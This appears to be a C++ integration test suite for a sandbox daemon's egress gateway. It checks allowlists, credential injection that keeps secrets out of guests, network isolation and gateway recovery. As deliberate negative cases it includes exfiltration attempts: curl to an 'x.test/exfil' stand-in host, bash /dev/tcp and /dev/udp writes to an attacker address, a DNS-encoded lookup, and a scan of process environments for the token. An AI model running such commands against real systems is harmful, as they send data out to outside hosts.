// Egress through the public API: a real vesseld runs vessel-gateway and gives
// its sandboxes network slots; its upstream is the fake internet of
// EgressWorld (namespaces of this test, nothing leaves the machine). Guests
// are the debian template (curl, python3) restored from a snapshot; commands
// run through data-plane sessions. One vesseld and one template
// build for the binary; three sandboxes in all.
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/write.hpp>
#include <boost/json.hpp>
#include <filesystem>
#include <fstream>
#include <thread>

#include "base/child_process.h"
#include "base/sha256.h"
#include "os/command.h"
#include "tests/integration/egress/world.h"
#include "tests/integration/guest_env.h"
#include "tests/integration/vesseld_harness.h"

namespace vessel::egress_test {
namespace {

namespace asio = boost::asio;
namespace fs = std::filesystem;
namespace json = boost::json;
using namespace std::chrono_literals;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kSecret = "s3cr3t-api-token-6b1f";

using testing::Reply;

struct Shared {
  std::unique_ptr<EgressWorld> world;
  testing::ScratchDir dir;
  std::unique_ptr<testing::Vesseld> d;
  std::string prefix;
  std::string allow_sb;  // debian, allowlist + credential
};
Shared* g = nullptr;

Reply call(const std::string& method, const std::string& target, const std::string& body = "") {
  return g->d->call(method, target, body);
}
std::string str(const json::value& v, const char* k) { return testing::str(v, k); }
std::string finish(const std::string& op) { return g->d->finish(op); }

// Creates a sandbox and waits for it; "" on failure (with the reason added).
std::string createSandbox(const std::string& body) {
  std::string why;
  std::string id = g->d->createSandbox(body, &why);
  EXPECT_FALSE(id.empty()) << why;
  return id;
}
bool deleteSandbox(const std::string& id) { return g->d->deleteSandbox(id); }

// Runs a shell command in the guest as root (a data-plane session); stdout + stderr.
std::string sh(const std::string& id, const std::string& cmd) { return g->d->sh(id, cmd); }

// This vesseld's slot namespaces ("<prefix>-<i>"), from `ip netns list`.
std::vector<std::string> slotNamespaces() {
  std::vector<std::string> out;
  std::error_code ec;
  for (auto& e : fs::directory_iterator("/run/netns", ec)) {
    std::string n = e.path().filename().string();
    if (n.rfind(g->prefix + "-", 0) == 0) out.push_back(n);
  }
  return out;
}

std::string gatewayTables() {
  auto r = os::runCommand(os::inNetns(g->world->gwNetns(), {"nft", "list", "tables"}));
  return r.ok() ? r->out : "nft failed: " + r.error().message();
}

class EgressApiTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    g = new Shared;
    auto w = EgressWorld::create({}, /*start_gateway=*/false);
    ASSERT_TRUE(w.ok()) << w.error().message();
    g->world = std::move(*w);
    g->prefix = "v" + sha256Hex(g->dir.path() + "/state").substr(0, 4);
    std::string cache = g->dir.path() + "/cache";
    // The debian template (curl, python3, CA store) in this test's store;
    // vesseld builds `minimal` there itself.
    const char* debian = ::getenv("VESSEL_DEBIAN_IMAGE");
    ASSERT_TRUE(debian && *debian) << "VESSEL_DEBIAN_IMAGE is not set; run through `make test`";
    auto b = os::runCommand(
        {VESSEL_CLI_PATH, "template", "build", "--local", "-f",
         VESSEL_SOURCE_DIR "/guest/templates/debian/template.json", "--store", cache + "/templates",
         "--kernel", testing::kernelPath(), "--minimal-image", testing::minimalImage()},
        {}, 600s);
    ASSERT_TRUE(b.ok()) << b.error().message();
    // No warm pool: the slot accounting below counts sandboxes only.
    testing::VesseldOptions opts{
        VESSELD_PATH,
        testing::kernelPath(),
        testing::minimalImage(),
        g->dir.path(),
        {"--warm-pool=none", "--egress-gateway-netns", g->world->gwNetns(),
         "--egress-upstream-netns", g->world->upNetns(), "--egress-resolver", kResolver,
         "--egress-ca-bundle", g->world->testCa()}};
    g->d = std::make_unique<testing::Vesseld>(opts);
    ASSERT_TRUE(g->d->start()) << "vesseld did not come up:\n" << vesseldLog();

    json::object cred{{"name", "a-api"},
                      {"hosts", json::array{"api.a.test"}},
                      {"header", "Authorization"},
                      {"value", std::string("Bearer ") + kSecret}};
    Reply c = call("POST", "/v1/credentials", json::serialize(cred));
    ASSERT_EQ(c.status, 201) << c.body;
    g->allow_sb = createSandbox(
        R"({"template": "debian", "network": {"mode": "allowlist",
            "allow": ["a.test", "api.a.test", "hold.test:7000"]}, "credentials": ["a-api"]})");
    ASSERT_FALSE(g->allow_sb.empty()) << vesseldLog();
    // The guest trusts the fake internet's CA for the real certificates
    // (its own trust store already holds the deployment CA).
    auto ca = readFile(g->world->testCa());
    ASSERT_TRUE(ca.ok());
    std::string o = sh(g->allow_sb, "cat > /tmp/test-ca.crt <<'EOF'\n" + *ca + "EOF\necho ok");
    ASSERT_THAT(o, HasSubstr("ok"));
  }
  static void TearDownTestSuite() {
    if (!g) return;
    if (g->d && g->d->running()) {
      auto e = g->d->stop();
      EXPECT_TRUE(e.exited && e.code == 0) << e.describe() << "\n" << vesseldLog();
    }
    // Nothing of vesseld's egress is left: no slot namespace, no table.
    EXPECT_THAT(slotNamespaces(), ::testing::IsEmpty());
    EXPECT_THAT(gatewayTables(), Not(HasSubstr("vessel_gw_" + g->prefix)));
    EXPECT_THAT(testing::qemuProcessesUsing(g->dir.path()), ::testing::IsEmpty());
    delete g;
    g = nullptr;
  }
  static std::string vesseldLog() { return g->d ? g->d->log() : ""; }
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root";
    ASSERT_TRUE(g && !g->allow_sb.empty()) << "set-up failed";
    g->world->clearLogs();
  }
  const std::string& sb() { return g->allow_sb; }
  std::string curl(const std::string& args) {
    return sh(sb(), "curl -sS -m 8 --cacert /tmp/test-ca.crt " + args + " 2>&1; echo rc=$?");
  }
};

TEST_F(EgressApiTest, AllowedHttpsVerifiesTheRealCertificate) {
  std::string o = curl("https://a.test/");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  EXPECT_THAT(o, HasSubstr("rc=0"));
  // The guest resolves through the gateway's DNS (resolv.conf from identity).
  o = sh(sb(), "python3 -c \"import socket; print(socket.gethostbyname('a.test'))\"");
  EXPECT_THAT(o, HasSubstr("198.51.100.10")) << o;
  EXPECT_EQ(g->world->attackerLog(), "");
}

TEST_F(EgressApiTest, ForbiddenNamesFailAndTheAttackerSeesNothing) {
  std::string o = curl("https://x.test/exfil");
  o += curl("http://x.test/exfil");
  o += curl("--resolve x.test:443:203.0.113.66 https://x.test/");
  o += sh(sb(), "python3 -c \"import socket; socket.gethostbyname('c2VjcmV0.x.test')\" 2>&1");
  // Raw TCP and UDP straight to X's address (debian has no nc: bash's
  // /dev/tcp). The gateway accepts the TCP connection and refuses what is
  // sent on it, so only the attacker's log tells.
  o += sh(sb(),
          "timeout 5 bash -c 'echo exfil > /dev/tcp/203.0.113.66/22' 2>&1; "
          "timeout 5 bash -c 'echo exfil > /dev/udp/203.0.113.66/53; "
          "echo exfil > /dev/udp/203.0.113.66/123' 2>&1");
  EXPECT_THAT(o, Not(HasSubstr("rc=0"))) << o;
  EXPECT_EQ(g->world->attackerLog(), "") << o;
}

TEST_F(EgressApiTest, CredentialReachesTheApiButNeverTheGuest) {
  // No --cacert: the terminated leaf is verified against the deployment CA
  // that identity put in the guest's trust store (CURL_CA_BUNDLE).
  std::string o = sh(sb(),
                     "curl -sS -m 8 -H 'Authorization: Bearer guest-placeholder' "
                     "https://api.a.test/echo 2>&1; echo rc=$?");
  EXPECT_THAT(o, HasSubstr("rc=0")) << o;
  EXPECT_THAT(o, Not(HasSubstr(kSecret))) << o;
  std::string api = g->world->apiLog();
  EXPECT_THAT(api, HasSubstr(std::string("Bearer ") + kSecret)) << api;
  EXPECT_THAT(api, Not(HasSubstr("guest-placeholder"))) << api;
  // The guest's view: environment, files, processes.
  std::string view =
      sh(sb(),
         "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
         "grep -rl '" +
             std::string(kSecret) + "' /etc /tmp /root /home /var /run 2>/dev/null; echo done");
  EXPECT_THAT(view, HasSubstr("SSL_CERT_FILE=/etc/vessel/ca-bundle.crt"));
  EXPECT_THAT(view, Not(HasSubstr(kSecret)));
  // And the API lists the credential without its value.
  Reply l = call("GET", "/v1/credentials");
  EXPECT_EQ(l.status, 200);
  EXPECT_THAT(l.body, HasSubstr("\"a-api\""));
  EXPECT_THAT(l.body, Not(HasSubstr(kSecret)));
  EXPECT_EQ(g->world->attackerLog(), "");
}

TEST_F(EgressApiTest, LiveNetworkChangeResetsAnOpenConnection) {
  // A keep-alive connection to hold.test, then a policy without it.
  std::string script =
      "import socket,time\n"
      "s=socket.create_connection(('hold.test',7000),timeout=15)\n"
      "s.sendall(b'GET / HTTP/1.1\\r\\nHost: hold.test:7000\\r\\n\\r\\n')\n"
      "open('/tmp/live.flag','w').write('open')\n"
      "try:\n"
      "  while s.recv(4096):\n"
      "    pass\n"
      "  print('closed', flush=True)\n"
      "except ConnectionResetError:\n"
      "  print('reset', flush=True)\n"
      "except socket.timeout:\n"
      "  print('still-open', flush=True)\n";
  std::string out;
  std::thread client(
      [&] { out = sh(sb(), "rm -f /tmp/live.flag; python3 - <<'EOF'\n" + script + "EOF"); });
  bool open = false;
  for (int i = 0; i < 100 && !open; ++i) {
    open = sh(sb(), "cat /tmp/live.flag 2>/dev/null") == "open";
    if (!open) std::this_thread::sleep_for(200ms);
  }
  Reply r = call("PUT", "/v1/sandboxes/" + sb() + "/network",
                 R"({"mode": "allowlist", "allow": ["a.test", "api.a.test"],
                     "credentials": ["a-api"]})");
  client.join();
  ASSERT_TRUE(open) << out;
  EXPECT_EQ(r.status, 200) << r.body;
  EXPECT_THAT(out, ::testing::AnyOf(HasSubstr("reset"), HasSubstr("closed"))) << out;
  EXPECT_EQ(str(call("GET", "/v1/sandboxes/" + sb() + "/network").js(), "mode"), "allowlist");
  // New connections follow the new policy too.
  std::string again =
      sh(sb(), "timeout 5 bash -c 'echo x > /dev/tcp/hold.test/7000' 2>&1; echo rc=$?");
  EXPECT_THAT(again, Not(HasSubstr("rc=0"))) << again;
  EXPECT_THAT(curl("https://a.test/"), HasSubstr("hello from a.test"));
  r = call("PUT", "/v1/sandboxes/" + sb() + "/network",
           R"({"mode": "allowlist", "allow": ["a.test", "api.a.test", "hold.test:7000"],
               "credentials": ["a-api"]})");
  EXPECT_EQ(r.status, 200) << r.body;
}

TEST_F(EgressApiTest, ChangingACredentialResetsConnectionsCarryingTheOldValue) {
  // A keep-alive terminated connection that injected the secret, then the
  // credential is replaced through the API: before POST answers, vesseld has
  // sent the sandbox a new policy and the gateway has reset the connection.
  std::string script =
      "import socket,ssl\n"
      "ctx=ssl.create_default_context(cafile='/etc/vessel/ca-bundle.crt')\n"
      "s=ctx.wrap_socket(socket.create_connection(('api.a.test',443),timeout=15),"
      "server_hostname='api.a.test')\n"
      "s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: api.a.test\\r\\n\\r\\n')\n"
      "print('first', s.recv(4096)[:12], flush=True)\n"
      "open('/tmp/rot.flag','w').write('open')\n"
      "try:\n"
      "  while s.recv(4096):\n"
      "    pass\n"
      "  print('closed', flush=True)\n"
      "except socket.timeout:\n"
      "  print('still-open', flush=True)\n"
      "except OSError as e:\n"
      "  print('reset', type(e).__name__, flush=True)\n";
  std::string out;
  std::thread client(
      [&] { out = sh(sb(), "rm -f /tmp/rot.flag; python3 - <<'EOF'\n" + script + "EOF"); });
  bool open = false;
  for (int i = 0; i < 100 && !open; ++i) {
    open = sh(sb(), "cat /tmp/rot.flag 2>/dev/null") == "open";
    if (!open) std::this_thread::sleep_for(100ms);
  }
  auto put = [&](const std::string& value) {
    json::object cred{{"name", "a-api"},
                      {"hosts", json::array{"api.a.test"}},
                      {"header", "Authorization"},
                      {"value", value}};
    return call("POST", "/v1/credentials", json::serialize(cred));
  };
  Reply r = put("Bearer rotated-0123456789abcdef");
  client.join();
  EXPECT_EQ(r.status, 201) << r.body;
  EXPECT_TRUE(open) << out;
  EXPECT_THAT(out, HasSubstr("first b'HTTP/1.1 200'"));
  EXPECT_TRUE(out.find("reset") != std::string::npos || out.find("closed") != std::string::npos)
      << out;
  // Back to the value the other cases expect.
  EXPECT_EQ(put(std::string("Bearer ") + kSecret).status, 201);
}

TEST_F(EgressApiTest, NoPolicyMeansNoNetworkAndAnEmptyAllowlistAllowsNothing) {
  std::string id = createSandbox(R"({"template": "minimal"})");
  ASSERT_FALSE(id.empty()) << vesseldLog();
  Reply n = call("GET", "/v1/sandboxes/" + id + "/network");
  EXPECT_EQ(str(n.js(), "mode"), "none") << n.body;
  Reply r = call("PUT", "/v1/sandboxes/" + id + "/network", R"({"allow": []})");
  EXPECT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(str(r.js(), "mode"), "none") << r.body;
  EXPECT_TRUE(deleteSandbox(id));
}

TEST_F(EgressApiTest, NetworkNoneHasNoEgress) {
  std::string id = createSandbox(R"({"template": "debian", "network": {"mode": "none"}})");
  ASSERT_FALSE(id.empty());
  std::string o = sh(id, "ip route");
  EXPECT_THAT(o, Not(HasSubstr("default via"))) << o;
  o = sh(id, "ip -o link show eth0");
  EXPECT_THAT(o, HasSubstr("state DOWN")) << o;
  // Even with a route set up by hand, the gateway's policy is none.
  o = sh(id,
         "ip link set eth0 up; ip addr add 172.16.0.2/30 dev eth0; "
         "ip route add default via 172.16.0.1; "
         "curl -sS -m 5 --resolve a.test:80:198.51.100.10 http://a.test/ 2>&1; echo rc=$?; "
         "curl -sS -m 5 http://203.0.113.66/none 2>&1; echo rc=$?");
  EXPECT_THAT(o, Not(HasSubstr("rc=0"))) << o;
  EXPECT_THAT(o, Not(HasSubstr("hello from"))) << o;
  EXPECT_EQ(g->world->attackerLog(), "") << o;
  EXPECT_TRUE(deleteSandbox(id));
}

TEST_F(EgressApiTest, BadNetworkRequestsAreRefused) {
  for (const char* body : {R"({"network": {"mode": "open"}})",
                           R"({"network": {"mode": "allowlist", "allow": ["10.0.0.1"]}})",
                           R"({"network": {"mode": "full", "allow": ["a.test"]}})",
                           R"({"network": {"mode": "allowlist", "allow": ["a.test"], "x": 1}})",
                           R"({"credentials": ["does-not-exist"]})"}) {
    Reply r = call("POST", "/v1/sandboxes", body);
    EXPECT_TRUE(r.status == 400 || r.status == 404) << body << " -> " << r.status << r.body;
  }
  for (const char* body :
       {R"({"name": "x", "hosts": ["a.test"], "header": "Host", "value": "v"})",
        R"({"name": "x", "hosts": ["127.0.0.1"], "header": "Authorization", "value": "v"})",
        R"({"name": "x", "hosts": ["a.test"], "header": "Authorization", "value": "a\r\nb"})",
        R"({"name": "x", "hosts": [], "header": "Authorization", "value": "v"})",
        R"({"name": "x", "hosts": ["a.test"], "header": "X-Key", "value": "0123456789abcde"})",
        R"({"name": "x", "hosts": ["a.test"], "header": "Authorization",
            "value": "Bearer 0123456789abcde"})"}) {
    Reply r = call("POST", "/v1/credentials", body);
    EXPECT_EQ(r.status, 400) << body << " -> " << r.body;
    if (std::string_view(body).find("0123456789abcde") != std::string_view::npos)
      EXPECT_NE(r.body.find("at least 16 bytes"), std::string::npos) << r.body;
  }
}

TEST_F(EgressApiTest, GatewayIsSupervisedAndCounted) {
  auto h = call("GET", "/healthz").js();
  ASSERT_TRUE(h.is_object() && h.as_object().contains("gateway")) << json::serialize(h);
  int64_t pid = h.at("gateway").at("pid").to_number<int64_t>();
  ASSERT_GT(pid, 0);
  ASSERT_EQ(::kill(static_cast<pid_t>(pid), SIGKILL), 0);
  bool back = false;
  for (int i = 0; i < 200 && !back; ++i) {
    std::this_thread::sleep_for(100ms);
    auto v = call("GET", "/healthz").js();
    back = v.is_object() && v.at("gateway").at("restarts").to_number<int64_t>() >= 1 &&
           v.at("gateway").at("running").as_bool();
  }
  ASSERT_TRUE(back) << vesseldLog();
  // The restarted gateway got the sandbox's policy back.
  std::string o = curl("https://a.test/");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  o = curl("https://x.test/");
  EXPECT_EQ(g->world->attackerLog(), "") << o;
  Reply m = call("GET", "/metrics");
  EXPECT_EQ(m.status, 200);
  EXPECT_THAT(m.body, HasSubstr("vessel_gateway_events_total{kind=\"tcp\",verdict=\"allow\""));
  EXPECT_THAT(m.body, HasSubstr("vessel_gateway_up 1"));
}

// kill -9 of vesseld takes its gateway down with it. The next vesseld takes
// the running sandbox over with its slot and gives the new gateway its
// policy and credential back: allowed names work, forbidden ones do not,
// and the secret is still injected and still never in the guest.
TEST_F(EgressApiTest, PolicyAndCredentialSurviveAVesseldKill9) {
  std::string before = sh(sb(), "echo $$ > /tmp/alive-mark; cat /tmp/alive-mark");
  auto gw = call("GET", "/healthz").js().at("gateway");
  int64_t old_gateway = gw.at("pid").to_number<int64_t>();
  g->d->kill9();
  ASSERT_TRUE(g->d->start()) << vesseldLog();
  auto v = call("GET", "/v1/sandboxes/" + sb()).js();
  ASSERT_EQ(str(v, "state"), "running") << json::serialize(v) << vesseldLog();
  gw = call("GET", "/healthz").js().at("gateway");
  EXPECT_NE(gw.at("pid").to_number<int64_t>(), old_gateway) << "a new gateway";
  EXPECT_EQ(gw.at("sandboxes").to_number<int64_t>(), 1) << json::serialize(gw);
  EXPECT_EQ(sh(sb(), "cat /tmp/alive-mark"), before);

  std::string o = curl("https://a.test/");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  EXPECT_THAT(o, HasSubstr("rc=0"));
  o = curl("https://x.test/exfil") + curl("http://x.test/exfil");
  EXPECT_THAT(o, Not(HasSubstr("rc=0"))) << o;
  EXPECT_EQ(g->world->attackerLog(), "") << o;
  o = sh(sb(), "curl -sS -m 8 https://api.a.test/echo 2>&1; echo rc=$?");
  EXPECT_THAT(o, HasSubstr("rc=0")) << o;
  EXPECT_THAT(o, Not(HasSubstr(kSecret)));
  EXPECT_THAT(g->world->apiLog(), HasSubstr(std::string("Bearer ") + kSecret));
  // Exactly one table of this vesseld in the shared gateway namespace: the
  // new run replaced the old one rather than adding to it.
  std::string tables = gatewayTables();
  std::string name = "vessel_gw_" + g->prefix;
  EXPECT_EQ(tables.find(name), tables.rfind(name)) << tables;
  auto rules = os::runCommand(
      os::inNetns(g->world->gwNetns(), {"nft", "list", "chain", "ip", name, "from_slot"}));
  ASSERT_TRUE(rules.ok());
  EXPECT_EQ(rules->out.find("@slot_sources"), rules->out.rfind("@slot_sources"))
      << "rules loaded once: " << rules->out;
}

// Slots handed to sandboxes (from /healthz), once every slot namespace on
// the host is accounted for (ready + attached): no slot exists unowned.
int64_t attachedSlots() {
  for (int i = 0; i < 50; ++i) {
    auto v = call("GET", "/healthz").js();
    if (!v.is_object()) break;
    const auto& gw = v.at("gateway");
    int64_t attached = gw.at("slots_attached").to_number<int64_t>();
    int64_t ready = gw.at("slots_ready").to_number<int64_t>();
    if (static_cast<int64_t>(slotNamespaces().size()) == attached + ready) return attached;
    std::this_thread::sleep_for(100ms);  // a refill between the two reads
  }
  ADD_FAILURE() << "slot namespaces and the pool's accounting disagree";
  return -1;
}

TEST_F(EgressApiTest, SlotsAreReleasedOnPauseAndDelete) {
  int64_t before = attachedSlots();
  std::string id = createSandbox(R"({"template": "minimal", "network": {"mode": "full"}})");
  ASSERT_FALSE(id.empty());
  EXPECT_EQ(attachedSlots(), before + 1);
  Reply r = call("POST", "/v1/sandboxes/" + id + ":pause");
  ASSERT_EQ(r.status, 202) << r.body;
  ASSERT_EQ(finish(str(r.js().at("operation"), "id")), "done");
  EXPECT_EQ(attachedSlots(), before);
  r = call("POST", "/v1/sandboxes/" + id + ":resume");
  ASSERT_EQ(r.status, 202) << r.body;
  ASSERT_EQ(finish(str(r.js().at("operation"), "id")), "done");
  EXPECT_EQ(attachedSlots(), before + 1);
  // Resumed on a fresh slot, registered again, its guest configured.
  std::string o = sh(id, "wget -q -O - http://a.test/ 2>&1; echo rc=$?");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  EXPECT_TRUE(deleteSandbox(id));
  EXPECT_EQ(attachedSlots(), before);
}

}  // namespace
}  // namespace vessel::egress_test
